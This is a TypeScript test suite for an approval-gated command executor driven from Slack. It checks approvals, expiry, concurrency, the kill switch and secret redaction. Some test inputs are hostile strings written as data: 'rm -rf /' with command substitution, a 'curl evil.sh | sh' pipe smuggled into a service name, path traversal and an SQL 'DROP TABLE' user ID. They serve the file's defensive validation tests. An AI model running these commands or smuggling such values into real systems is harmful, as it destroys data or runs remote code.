import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ProposalService } from '../../src/executor/proposal-service.ts';
import type { Database } from '../../src/store/database.ts';
import { migrate } from '../../src/store/migrate.ts';
import { type StoreDriver, storeDrivers } from '../store/store-drivers.ts';
import { auditActions as actions, makeService, manualClock, proposal, useProposalService } from './service-fixture.ts';

async function count(db: Database, sql: string, params: unknown[] = []): Promise<number> {
  const [row] = await db.query<{ n: string | number }>(sql, params);
  return Number(row?.n ?? 0);
}

describe.each(storeDrivers())('proposal service ($name)', ({ name, setup }) => {
  let driver: StoreDriver;
  let db: Database;
  let clock: ReturnType<typeof manualClock>;
  let service: ProposalService;
  // One store per driver for the whole file (opening PGlite takes seconds); assertions are scoped
  // to each test's own proposals.
  useProposalService(setup, (h) => ({ driver, db, clock, service } = h));

  it('submits, audits, and runs after one approval with the dry run first; shell text stays one literal argv element', async () => {
    const stored = await service.submit(proposal('echo-args', { service: 'api', environment: 'staging', note: 'x; rm -rf / $(whoami) `id` | cat' }));
    expect(stored).toMatchObject({ status: 'proposed', target: 'api@staging', channel: 'C1', threadTs: '1700000000.000100', approvals: [] });
    expect(service.describeApprovers(stored)).toBe('one person on the incident');

    const result = await service.approve(stored.id, { userId: 'UANY' });
    expect(result.outcome).toBe('executed');
    expect(result.execution).toMatchObject({ status: 'succeeded', triggeredBy: 'UANY' });
    expect(JSON.parse(result.execution!.dryRun!.output)).toEqual(['dry-run', 'api', 'x; rm -rf / $(whoami) `id` | cat']);
    expect(JSON.parse(result.execution!.result!.output)).toEqual(['api', 'x; rm -rf / $(whoami) `id` | cat']);
    expect(result.proposal.status).toBe('succeeded');
    expect(await actions(db, stored.id)).toEqual(['proposal.submitted', 'approval.recorded', 'execution.started', 'execution.finished']);
    const [finished] = await db.query<{ details: { durationMs: number; channel: string; result: string } }>(`SELECT details FROM audit_log WHERE action = 'execution.finished'`);
    expect(finished!.details).toMatchObject({ channel: 'C1', result: 'succeeded' });
    expect(finished!.details.durationMs).toBeGreaterThanOrEqual(0);
  });

  it('refuses a proposal whose arguments fail the catalog (injected chat text), on the record', async () => {
    const injected = { incidentId: 'INC-INJECTED' };
    await expect(service.submit(proposal('restart', { service: 'api; curl evil.sh | sh', environment: 'production' }, injected))).rejects.toThrow(/service: must match/);
    await expect(service.submit(proposal('restart', { service: '../../etc', environment: 'production' }, injected))).rejects.toThrow(/service: must match/);
    await expect(service.submit(proposal('format-disk', { service: 'api' }, injected))).rejects.toThrow(/unknown command/);
    expect(await count(db, `SELECT count(*) AS n FROM proposals WHERE incident_id = 'INC-INJECTED'`)).toBe(0);
    expect(await count(db, `SELECT count(*) AS n FROM audit_log WHERE action = 'proposal.refused' AND details->>'incidentId' = 'INC-INJECTED'`)).toBe(3);
  });

  it('denies an unauthorized approver and says who can approve', async () => {
    const p = await service.submit(proposal('rollback', { service: 'api', environment: 'production' }));
    const result = await service.approve(p.id, { userId: 'UANY' });
    expect(result.outcome).toBe('denied');
    expect(result.reason).toMatch(/needs one on-call engineer or team lead/);
    expect(result.proposal.status).toBe('proposed');
    expect(await count(db, 'SELECT count(*) AS n FROM approvals WHERE proposal_id = $1', [p.id])).toBe(0);
    expect(await actions(db, p.id)).toEqual(['proposal.submitted', 'approval.denied']);
  });

  it('needs two distinct approvers, never the proposer, and ignores a replayed approval', async () => {
    const p = await service.submit(proposal('echo-args', { service: 'api', environment: 'production' }, { proposedBy: 'ULEAD1' }));
    expect((await service.approve(p.id, { userId: 'ULEAD1' })).reason).toMatch(/you proposed this command/);
    expect((await service.approve(p.id, { userId: 'UONCALL' })).outcome).toBe('approved-waiting');
    const replay = await service.approve(p.id, { userId: 'UONCALL' });
    expect(replay).toMatchObject({ outcome: 'approved-waiting' });
    expect(replay.reason).toMatch(/you already approved; 1 of 2/);
    const second = await service.approve(p.id, { userId: 'UXLEAD', groups: ['SLEADS'] });
    expect(second.outcome).toBe('executed');
    expect(second.proposal.approvals.map((a) => a.userId)).toEqual(['UONCALL', 'UXLEAD']);
  });

  it('expires a proposal nobody approved in time, and an early approval of a two-person command', async () => {
    const p = await service.submit(proposal('echo-args', { service: 'api', environment: 'staging' }));
    clock.advance(31 * 60_000);
    const late = await service.approve(p.id, { userId: 'UANY' });
    expect(late.outcome).toBe('expired');
    expect((await service.get(p.id))!.status).toBe('expired');

    const two = await service.submit(proposal('echo-args', { service: 'web', environment: 'production' }));
    expect((await service.approve(two.id, { userId: 'ULEAD1' })).outcome).toBe('approved-waiting');
    clock.advance(31 * 60_000);
    // The first approval lapsed, so the second cannot complete the pair.
    const afterExpiry = await service.approve(two.id, { userId: 'ULEAD2' });
    expect(afterExpiry.outcome).toBe('expired');
    expect(await count(db, 'SELECT count(*) AS n FROM executions WHERE proposal_id IN ($1, $2)', [p.id, two.id])).toBe(0);
  });

  it('ends the proposal on a rejection', async () => {
    const p = await service.submit(proposal('echo-args', { service: 'api', environment: 'staging' }));
    expect(await service.reject(p.id, { userId: 'UANY' }, 'wrong service')).toMatchObject({ outcome: 'rejected', reason: 'rejected by UANY: wrong service' });
    const after = await service.approve(p.id, { userId: 'UONCALL' });
    expect(after.outcome).toBe('rejected');
    expect(after.reason).toMatch(/wrong service/);
    expect((await service.reject(p.id, { userId: 'UANY' })).outcome).toBe('not-pending');
    expect(await count(db, 'SELECT count(*) AS n FROM executions WHERE proposal_id = $1', [p.id])).toBe(0);
  });

  it('runs once for a double click, and once for many concurrent clicks', async () => {
    const p = await service.submit(proposal('echo-args', { service: 'api', environment: 'staging' }));
    expect((await service.approve(p.id, { userId: 'UANY' })).outcome).toBe('executed');
    const again = await service.approve(p.id, { userId: 'UANY' });
    expect(again.outcome).toBe('already-done');
    expect(again.execution?.status).toBe('succeeded');

    const q = await service.submit(proposal('echo-args', { service: 'web', environment: 'staging' }));
    // pg: several services (like several processes) sharing the database; PGlite: one instance.
    const services = name === 'pg' ? await Promise.all([0, 1, 2, 3].map(async () => makeService(await driver.open(), { clock: clock.now }))) : [service];
    const clicks = name === 'pg' ? 100 : 25;
    const results = await Promise.all(Array.from({ length: clicks }, (_, i) => services[i % services.length]!.approve(q.id, { userId: `UCLICK${i % 7}` })));
    expect(results.filter((r) => r.outcome === 'executed')).toHaveLength(1);
    expect(results.every((r) => ['executed', 'already-running', 'already-done'].includes(r.outcome))).toBe(true);
    expect(await count(db, 'SELECT count(*) AS n FROM executions WHERE proposal_id = $1', [q.id])).toBe(1);
    expect(await count(db, `SELECT count(*) AS n FROM audit_log WHERE action = 'execution.started' AND details->>'proposalId' = $1`, [q.id])).toBe(1);
  });

  it('marks a run interrupted by a crash as unknown and never re-runs it', async () => {
    const p = await service.submit(proposal('sleep', { service: 'api', environment: 'staging', ms: '800' }));
    const running = service.approve(p.id, { userId: 'UANY' });
    while ((await service.get(p.id))!.status !== 'running') await new Promise((r) => setTimeout(r, 20));
    // Another process starts after this one "crashed": nothing is stale until the deadline passes.
    const restarted = makeService(db, { clock: () => clock.now() + 5_000 });
    expect(await restarted.recoverInterrupted()).toEqual([]);
    const later = makeService(db, { clock: () => clock.now() + 10 * 60_000 });
    expect(await later.recoverInterrupted()).toEqual([p.id]);
    expect((await later.get(p.id))!.status).toBe('unknown');
    const retry = await later.approve(p.id, { userId: 'UOTHER' });
    expect(retry.outcome).toBe('already-done');
    expect(retry.reason).toMatch(/never re-run automatically/);
    await running; // the "crashed" run finishing late does not overwrite unknown
    expect((await service.get(p.id))!.status).toBe('unknown');
    expect(await count(db, 'SELECT count(*) AS n FROM executions WHERE proposal_id = $1', [p.id])).toBe(1);
    expect(await actions(db, p.id)).toEqual(['proposal.submitted', 'approval.recorded', 'execution.started', 'execution.unknown', 'execution.finished-late']);
  });

  it('refuses a second command on the same target while one runs, and runs it when asked again later', async () => {
    const slow = await service.submit(proposal('sleep', { service: 'api', environment: 'staging', ms: '600' }));
    const other = await service.submit(proposal('echo-args', { service: 'api', environment: 'staging' }));
    const elsewhere = await service.submit(proposal('echo-args', { service: 'web', environment: 'staging' }));
    const first = service.approve(slow.id, { userId: 'UANY' });
    while ((await service.get(slow.id))!.status !== 'running') await new Promise((r) => setTimeout(r, 20));
    const conflict = await service.approve(other.id, { userId: 'UANY' });
    expect(conflict.outcome).toBe('conflict');
    expect(conflict.reason).toMatch(new RegExp(`sleep \\(${slow.id}\\) is running on api@staging`));
    expect((await service.approve(elsewhere.id, { userId: 'UANY' })).outcome).toBe('executed');
    expect((await first).outcome).toBe('executed');
    expect((await service.approve(other.id, { userId: 'UANY' })).outcome).toBe('executed');
  });

  it('pauses all execution with the kill switch and says so', async () => {
    await service.pause('cli:ops', 'change freeze');
    const p = await service.submit(proposal('echo-args', { service: 'api', environment: 'staging' }));
    const paused = await service.approve(p.id, { userId: 'UANY' });
    expect(paused.outcome).toBe('paused');
    expect(paused.reason).toMatch(/paused by cli:ops .*\(change freeze\).*opsight executor resume/);
    expect(paused.proposal.status).toBe('approved');
    expect(await count(db, 'SELECT count(*) AS n FROM executions WHERE proposal_id = $1', [p.id])).toBe(0);
    await service.resume('cli:ops');
    expect((await service.approve(p.id, { userId: 'UANY' })).outcome).toBe('executed');
  });

  it('rate-limits approvals per user', async () => {
    const limited = makeService(db, { clock: clock.now, rateLimit: 2 });
    const ids = [];
    for (const s of ['a1', 'a2', 'a3']) ids.push((await limited.submit(proposal('echo-args', { service: s, environment: 'staging' }))).id);
    expect((await limited.approve(ids[0]!, { userId: 'UFAST' })).outcome).toBe('executed');
    expect((await limited.approve(ids[1]!, { userId: 'UFAST' })).outcome).toBe('executed');
    const third = await limited.approve(ids[2]!, { userId: 'UFAST' });
    expect(third.outcome).toBe('rate-limited');
    expect(third.reason).toMatch(/at most 2 approvals per 10 min/);
    expect((await limited.approve(ids[2]!, { userId: 'UCALM' })).outcome).toBe('executed');
  });

  it('kills a run at its timeout and records the failure', async () => {
    const p = await service.submit(proposal('sleep', { service: 'api', environment: 'staging', ms: '20000' }));
    const result = await service.approve(p.id, { userId: 'UANY' });
    expect(result.execution).toMatchObject({ status: 'failed', result: { ok: false, timedOut: true } });
    expect(result.reason).toMatch(/timed out after 1000 ms/);
  });

  it('redacts secrets in captured output', async () => {
    const p = await service.submit(proposal('echo-args', { service: 'api', environment: 'staging', note: 'token xoxb-1234567890-abcdefghijklmnop' }));
    const result = await service.approve(p.id, { userId: 'UANY' });
    expect(result.execution!.result!.output).not.toContain('xoxb-1234567890');
    expect(JSON.stringify(await db.query('SELECT details FROM audit_log'))).not.toContain('xoxb-1234567890-abcdefghijklmnop"]');
  });

  it('refuses approvals that do not come from a Slack user', async () => {
    const p = await service.submit(proposal('echo-args', { service: 'api', environment: 'staging' }));
    for (const userId of ['opsight', '', 'U1; DROP TABLE approvals', 'B0BOT']) {
      await expect(service.approve(p.id, { userId })).rejects.toThrow(/userId must look like U0123ABCD/);
    }
    await expect(service.approve('prop-missing', { userId: 'UANY' })).rejects.toThrow(/no proposal "prop-missing"/);
  });
});

describe.each(storeDrivers())('http adapter against a local webhook ($name)', ({ setup }) => {
  let server: Server;
  let url: string;
  const received: Array<{ path: string; auth?: string; body: unknown }> = [];
  let status = 200;
  beforeAll(async () => {
    server = createServer((req, res) => {
      let text = '';
      req.on('data', (c) => (text += c));
      req.on('end', () => {
        received.push({ path: req.url ?? '', ...(req.headers.authorization ? { auth: req.headers.authorization } : {}), body: JSON.parse(text) });
        res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify({ accepted: status === 200 }));
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/hooks`;
  });
  afterAll(() => new Promise<void>((r) => server.close(() => r())));

  it('posts the dry run, then the command, with the header secret from the environment', async () => {
    const driver = await setup();
    try {
      const db = await driver.open();
      await migrate(db);
      const service = makeService(db, { hookUrl: url, env: { TEST_HOOK_TOKEN: 's3cret' } });
      received.length = 0;
      status = 200;
      const p = await service.submit(proposal('hook', { service: 'checkout', environment: 'staging', factor: '1.5' }));
      const ok = await service.approve(p.id, { userId: 'UANY' });
      expect(ok.execution).toMatchObject({ status: 'succeeded', dryRun: { ok: true, code: 200 }, result: { ok: true, code: 200, output: '{"accepted":true}' } });
      expect(received).toEqual([
        { path: '/hooks/checkout', auth: 'Bearer s3cret', body: { service: 'checkout', environment: 'staging', factor: 1.5, dryRun: true } },
        { path: '/hooks/checkout', auth: 'Bearer s3cret', body: { service: 'checkout', environment: 'staging', factor: 1.5 } },
      ]);

      status = 500;
      received.length = 0;
      const q = await service.submit(proposal('hook', { service: 'checkout', environment: 'development', factor: '2' }));
      const failed = await service.approve(q.id, { userId: 'UANY' });
      expect(failed.execution).toMatchObject({ status: 'failed', dryRun: { ok: false, code: 500 } });
      expect(failed.reason).toMatch(/dry run failed \(webhook answered HTTP 500\); the command itself was not run/);
      expect(received).toHaveLength(1);
    } finally {
      await driver.teardown();
    }
  });
});
